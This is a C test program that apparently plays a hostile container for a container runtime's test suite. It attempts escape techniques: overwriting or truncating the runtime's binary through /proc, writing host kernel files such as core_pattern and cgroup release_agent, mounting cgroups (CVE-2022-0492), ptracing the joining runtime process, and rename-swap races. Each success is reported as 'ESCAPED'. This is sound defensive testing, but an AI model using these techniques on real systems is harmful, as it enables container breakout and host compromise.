// SPDX-License-Identifier: Apache-2.0
/*
 * What a hostile container does. `attack WHAT [ARGS]` prints one line "ESCAPED <how>" for each
 * thing that it got and should not have; a last line "done" says that it tried everything.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif

__attribute__((format(printf, 1, 2))) static void escaped(const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    printf("ESCAPED ");
    vprintf(fmt, ap);
    putchar('\n');
    va_end(ap);
    fflush(stdout);
}

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool same_file(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* ---- the runtime's own program ---- */

/* The program of a process that is none of the image's: 'our' is ours, 'shell' the image's. */
static int foreign_program(const char *pid, const struct stat *our, const struct stat *shell)
{
    char path[64];
    struct stat st;
    int fd;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0 && fstat(fd, &st) == 0 && !same_file(&st, our) && !same_file(&st, shell))
        return fd;
    if (fd >= 0)
        close(fd);
    return -1;
}

/* The number that the next process here will have, if nobody else is born meanwhile. */
static pid_t next_number(void)
{
    pid_t mine = fork();

    if (mine == 0)
        _exit(0);
    waitpid(mine, NULL, 0);
    return mine + 1;
}

/* Who joins gets one of the next numbers, and may live for less than 0.1 ms. */
static int catch_program(double deadline, pid_t *who)
{
    struct stat our, shell;

    if (stat("/proc/self/exe", &our) < 0 || stat("/bin/busybox", &shell) < 0)
        return -1;
    while (now() < deadline) {
        pid_t next = next_number();
        for (double soon = now() + 0.1; now() < soon;)
            for (pid_t pid = next; pid < next + 3; pid++) {
                char number[16];
                snprintf(number, sizeof number, "%d", (int)pid);
                int fd = foreign_program(number, &our, &shell);
                if (fd < 0)
                    continue;
                *who = pid;
                return fd;
            }
    }
    return -1;
}

/* A mount of its own that can be written, for who may mount. */
static void by_mount(int fd)
{
    struct {
        unsigned long long set, clear, propagation, userns;
    } writable = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
    char path[64];
    int tree;

    if (syscall(442 /* mount_setattr */, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
        escaped("made the mount of the runtime's program writable");
    tree = (int)syscall(428 /* open_tree */, fd, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */);
    if (tree >= 0 && syscall(442, tree, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
        if (open(path, O_WRONLY) >= 0)
            escaped("cloned the mount of the runtime's program");
    }
}

/* A file in memory that is not sealed can be written as soon as nobody runs from it. */
static void by_memory(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int seals = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);

    if (seals >= 0)
        printf("in memory, seals %d\n", seals);
    if (seals >= 0 && !(seals & F_SEAL_WRITE))
        escaped("the runtime's program in memory is not sealed");
    if (fd >= 0)
        close(fd);
}

/* ETXTBSY as long as it runs: its end is ours to bring about. */
static int attack_overwrite(double seconds)
{
    char path[64];
    pid_t who = 0;
    int program = catch_program(now() + seconds, &who), fd = -1;

    if (program < 0) {
        printf("nothing caught\n");
        return 1;
    }
    printf("caught %d\n", (int)who);
    fflush(stdout);
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    kill(who, SIGKILL);
    for (double end = now() + 5; fd < 0 && now() < end;) {
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno != ETXTBSY)
            break;
    }
    if (fd >= 0 && pwrite(fd, "OVERWRITTEN", 11, 0) == 11)
        escaped("wrote the runtime's program");
    else
        printf("not writable: %s\n", strerror(errno));
    if (truncate(path, 1) == 0)
        escaped("cut the runtime's program");
    by_memory(path);
    by_mount(program);
    return 0;
}

/* ---- descriptors ---- */

static int attack_fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    const struct dirent *e;
    char path[300], to[4096], cwd[4096];

    while (d && (e = readdir(d))) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd < 3 || fd == dirfd(d))
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, to, sizeof to - 1);
        to[n > 0 ? n : 0] = '\0';
        escaped("descriptor %d: %s", fd, to);
    }
    if (syscall(SYS_getcwd, cwd, sizeof cwd) > 0 && cwd[0] != '/')
        escaped("working directory %s", cwd);
    return d ? 0 : 1;
}

/* Whoever began the runtime had 0 and 2 closed: nothing of the host may have become them. */
static int attack_stdio(void)
{
    static const int closed[] = { 0, 2 };
    char path[64], to[4096];

    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", closed[i]);
        ssize_t n = readlink(path, to, sizeof to - 1);
        to[n > 0 ? n : 0] = '\0';
        if (n > 0 && strcmp(to, "/dev/null") != 0)
            escaped("descriptor %d: %s", closed[i], to);
    }
    return 0;
}

/* ---- what must be read-only ---- */

static void try_write(const char *path)
{
    static const char *const around[] = { "", "/proc/self/root", "/proc/1/root",
                                          "/proc/self/task/1/root" };
    char full[4096];

    for (size_t i = 0; i < sizeof around / sizeof *around; i++) {
        snprintf(full, sizeof full, "%s%s", around[i], path);
        int fd = open(full, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        escaped("%s can be written", full);
        close(fd);
        return;
    }
}

static void try_release_agents(const char *mounts)
{
    char type[64], where[512], path[600];
    FILE *f = fopen(mounts, "re");

    while (f && fscanf(f, "%*s %511s %63s %*[^\n]", where, type) == 2) {
        if (strcmp(type, "cgroup") != 0)
            continue;
        snprintf(path, sizeof path, "%s/release_agent", where);
        try_write(path);
        snprintf(path, sizeof path, "%s/notify_on_release", where);
        try_write(path);
    }
    if (f)
        fclose(f);
}

/* Nothing is written: what can be opened for it is the host's. */
static int attack_kernel(void)
{
    static const char *const files[] = {
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/panic_on_oom",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sysrq-trigger",
        "/proc/irq/default_smp_affinity",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/power/state",
    };

    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        try_write(files[i]);
    try_release_agents("/proc/self/mounts");
    /* CVE-2022-0492: a cgroup tree of one's own */
    mkdir("/tmp/cg", 0755);
    if (mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma") == 0 ||
        mount("cgroup", "/tmp/cg", "cgroup", 0, "pids") == 0)
        escaped("mounted a cgroup hierarchy");
    if (mount("proc", "/tmp/cg", "proc", 0, NULL) == 0)
        escaped("mounted another /proc");
    if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        escaped("made /proc/sys writable");
    if (umount2("/proc/sys", MNT_DETACH) == 0)
        escaped("removed the mount over /proc/sys");
    return 0;
}

/* ---- who joins ---- */

static unsigned long long rights_of(const char *pid)
{
    unsigned long long rights = 0;
    char path[64], line[256];

    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "re");
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "CapPrm: %llx", &rights) == 1)
            break;
    if (f)
        fclose(f);
    return rights;
}

/* With CAP_SYS_PTRACE everything here can be traced; it must have nothing that we have not. */
static void take_rights(pid_t pid)
{
    unsigned long long ours = rights_of("self");
    char number[16];

    snprintf(number, sizeof number, "%d", (int)pid);
    for (double end = now() + 0.05; now() < end && kill(pid, 0) == 0;) {
        unsigned long long more = rights_of(number) & ~ours;
        if (!more || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
            continue;
        more = rights_of(number) & ~ours;
        if (more)
            escaped("traced process %d, with the rights %llx more", (int)pid, more);
        kill(pid, SIGKILL);
        waitpid(pid, NULL, __WALL);
        return;
    }
}

/* Until it executes its command it is the runtime. */
static void look_into(pid_t pid, const struct stat *our, const struct stat *shell)
{
    char path[64], number[16];
    bool traced = false;

    snprintf(number, sizeof number, "%d", (int)pid);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    for (double end = now() + 0.05; now() < end && !traced && kill(pid, 0) == 0;) {
        traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0;
        int program = foreign_program(number, our, shell);
        if (program < 0)
            continue;
        escaped("%s the runtime's process %d", traced ? "traced" : "looked into", (int)pid);
        int memory = open(path, O_RDWR | O_CLOEXEC);
        if (memory >= 0)
            escaped("opened the memory of the runtime's process");
        break;
    }
    if (!traced)
        return;
    kill(pid, SIGKILL);
    waitpid(pid, NULL, __WALL); /* else its parent would not hear of its end */
}

/* The next process here will be the one that joins. */
static int attack_join(double seconds, bool rights)
{
    struct stat our, shell;
    pid_t next;

    if (stat("/proc/self/exe", &our) < 0 || stat("/bin/busybox", &shell) < 0)
        return 1;
    printf("ready\n");
    fflush(stdout);
    for (double end = now() + seconds; now() < end;) {
        next = next_number();
        for (double soon = now() + 0.2; now() < soon;)
            if (kill(next, 0) == 0) {
                if (rights)
                    take_rights(next);
                else
                    look_into(next, &our, &shell);
                next++;
            }
    }
    return 0;
}

/* ---- races and rights ---- */

/* Two names of a shared volume change places, as fast as the kernel can. */
static int attack_swap(const char *a, const char *b, double seconds)
{
    printf("ready\n");
    fflush(stdout);
    for (double end = now() + seconds; now() < end;)
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
                return perror("renameat2"), 1;
    return 0;
}

static int attack_rights(void)
{
    char line[256];
    FILE *f = fopen("/proc/self/status", "re");

    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0 ||
            strncmp(line, "Seccomp:", 8) == 0 || strncmp(line, "Groups", 6) == 0)
            fputs(line, stdout);
    if (mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0)
        escaped("mounted something");
    if (getuid() != geteuid() && geteuid() == 0)
        escaped("became root by a set-uid program");
    if (chroot("/tmp") == 0 && getuid())
        escaped("may chroot as an ordinary user");
    return 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    int rc = strcmp(what, "overwrite") == 0 ? attack_overwrite(atof(argv[2]))
             : strcmp(what, "fds") == 0     ? attack_fds()
             : strcmp(what, "stdio") == 0   ? attack_stdio()
             : strcmp(what, "kernel") == 0  ? attack_kernel()
             : strcmp(what, "join") == 0    ? attack_join(atof(argv[2]), argc > 3)
             : strcmp(what, "swap") == 0    ? attack_swap(argv[2], argv[3], atof(argv[4]))
             : strcmp(what, "rights") == 0  ? attack_rights()
                                            : 2;
    if (rc == 0)
        printf("done\n");
    return rc;
}
